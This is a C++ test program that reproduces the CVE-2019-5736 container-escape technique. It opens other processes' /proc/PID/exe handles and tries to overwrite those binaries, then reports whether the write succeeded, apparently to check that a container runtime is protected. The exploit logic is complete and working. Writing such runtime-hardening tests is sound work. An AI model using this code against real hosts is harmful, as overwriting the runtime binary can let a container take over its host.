// A CVE-2019-5736 attacker, run inside a test container (static, no libc beyond the kernel's
// calls): it opens /proc/PID/exe of every process of its pid namespace that runs neither
// itself nor busybox, as soon as it sees one, and then tries to write through each of those
// handles (a reopen of /proc/self/fd/N for writing) until SECONDS pass.
//
//   exe_attacker SECONDS
//
// Prints "WROTE <pid>" and exits 0 once a write went through; otherwise, at the deadline,
// "SAFE opened=<n> <last error>" (opened: how many handles it got) and exits 0 too.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

namespace {

struct Handle {
  int pid;
  int fd;
};

bool same_file(const struct stat& a, const struct stat& b) {
  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

double now() {
  struct timespec ts {};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

}  // namespace

int main(int argc, char** argv) {
  const double deadline = now() + (argc > 1 ? std::atof(argv[1]) : 5.0);
  struct stat self {
  }, busybox{};
  stat("/proc/self/exe", &self);
  stat("/bin/busybox", &busybox);
  std::set<int> seen;
  std::vector<Handle> handles;
  std::string last_error = "no handle";
  while (now() < deadline) {
    if (DIR* proc = opendir("/proc")) {
      while (struct dirent* entry = readdir(proc)) {
        int pid = std::atoi(entry->d_name);
        if (pid <= 0 || pid == getpid() || seen.count(pid)) continue;
        std::string exe = "/proc/" + std::to_string(pid) + "/exe";
        int fd = open(exe.c_str(), O_PATH | O_CLOEXEC);
        if (fd < 0) continue;  // gone, or not ours to open (yet): try again next round
        struct stat st {};
        if (fstat(fd, &st) < 0 || same_file(st, self) || same_file(st, busybox)) {
          seen.insert(pid);
          close(fd);
          continue;
        }
        seen.insert(pid);
        handles.push_back({pid, fd});
      }
      closedir(proc);
    }
    for (const Handle& h : handles) {
      std::string path = "/proc/self/fd/" + std::to_string(h.fd);
      int w = open(path.c_str(), O_WRONLY | O_CLOEXEC);
      if (w < 0) {
        last_error = std::strerror(errno);
        continue;
      }
      bool wrote = write(w, "PWNED", 5) == 5;
      close(w);
      if (wrote) {
        std::printf("WROTE %d\n", h.pid);
        return 0;
      }
      last_error = std::strerror(errno);
    }
    usleep(200);
  }
  std::printf("SAFE opened=%zu %s\n", handles.size(), last_error.c_str());
  return 0;
}
